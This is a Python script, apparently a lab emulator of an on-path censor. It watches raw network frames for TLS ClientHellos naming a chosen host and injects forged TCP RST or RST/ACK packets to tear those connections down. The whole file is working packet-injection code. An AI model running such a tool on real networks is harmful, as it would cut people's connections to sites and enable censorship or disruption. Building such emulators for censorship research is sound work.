"""Forges resets when a ClientHello names a host, as a censor beside the path does: it cannot hold packets back.

    inject.py NAME TO_CLIENT_LINK|- TO_SERVER_LINK|- STYLE

STYLE is "one" (one bare RST a side) or "three" (RST/ACKs with sequence numbers further and further ahead).
"""

import select
import socket
import struct
import sys


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total & 0xffff) + (total >> 16)
    return ~(total + (total >> 16)) & 0xffff


def reset(frame, seq, ack, flags, back, ttl):
    """A forged RST for the flow of `frame`: back to its sender, or on to its receiver."""
    ip, tcp = frame[14:34], frame[34:54]
    source, target = (ip[16:20], ip[12:16]) if back else (ip[12:16], ip[16:20])
    ports = tcp[2:4] + tcp[0:2] if back else tcp[0:4]
    segment = ports + struct.pack("!IIBBHHH", seq & 0xffffffff, ack & 0xffffffff, 0x50, flags, 0, 0, 0)
    pseudo = source + target + struct.pack("!BBH", 0, 6, len(segment))
    segment = segment[:16] + struct.pack("!H", checksum(pseudo + segment)) + segment[18:]
    head = struct.pack("!BBHHHBBH", 0x45, 0, 40, 0xd431, 0, ttl, 6, 0) + source + target
    head = head[:10] + struct.pack("!H", checksum(head)) + head[12:]
    link = frame[6:12] + frame[0:6] if back else frame[0:12]
    return link + frame[12:14] + head + segment


def main():
    name, to_client, to_server, style = sys.argv[1].encode(), *sys.argv[2:5]
    socks = {}
    for link, back in ((to_client, True), (to_server, False)):
        if link != "-":
            s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
            s.bind((link, 3))
            socks[s] = back
    print("ready", file=sys.stderr, flush=True)
    while True:
        for s in select.select(list(socks), [], [])[0]:
            frame = s.recv(65535)
            if frame[12:14] != b"\x08\x00" or name not in frame or frame[54 + 12:54 + 13] != b"\x16":
                continue
            seq, ack = struct.unpack("!II", frame[38:46])
            end = seq + len(frame) - 14 - 20 - (frame[46] >> 4) * 4
            at, other = (ack, end) if socks[s] else (end, ack)
            if style == "one":
                s.send(reset(frame, at, 0, 0x04, socks[s], 97))
            else:
                for ahead, ttl in ((0, 46), (1460, 57), (4380, 103)):
                    s.send(reset(frame, at + ahead, other, 0x14, socks[s], ttl))


main()
